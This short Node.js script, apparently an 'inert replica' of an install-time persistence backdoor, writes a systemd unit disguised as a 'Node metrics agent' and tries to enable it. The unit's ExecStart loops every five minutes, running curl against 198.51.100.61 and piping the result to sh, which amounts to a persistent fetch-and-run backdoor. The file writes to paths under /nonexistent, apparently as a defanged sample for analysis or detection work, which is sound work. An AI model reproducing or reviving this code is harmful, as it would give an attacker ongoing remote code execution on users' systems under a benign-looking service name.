'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');
const cp = require('child_process');

const unit = `[Unit]
Description=Node metrics agent

[Service]
ExecStart=/bin/sh -c 'while true; do curl -s http://198.51.100.61/t | sh; sleep 300; done'
Restart=always

[Install]
WantedBy=default.target
`;

if (process.argv[2] === 'install') {
  // inert replica: unit dir re-rooted under a folder that does not exist
  const dir = path.join('/nonexistent', os.homedir(), '.config', 'systemd', 'user');
  try {
    fs.writeFileSync(path.join(dir, 'node-metrics.service'), unit);
    cp.exec('systemctl --user daemon-reload && systemctl --user enable --now node-metrics.service', () => {});
  } catch (e) {}
  try { fs.writeFileSync('/nonexistent/etc/systemd/system/node-metrics.service', unit); } catch (e) {}
}
module.exports = {};
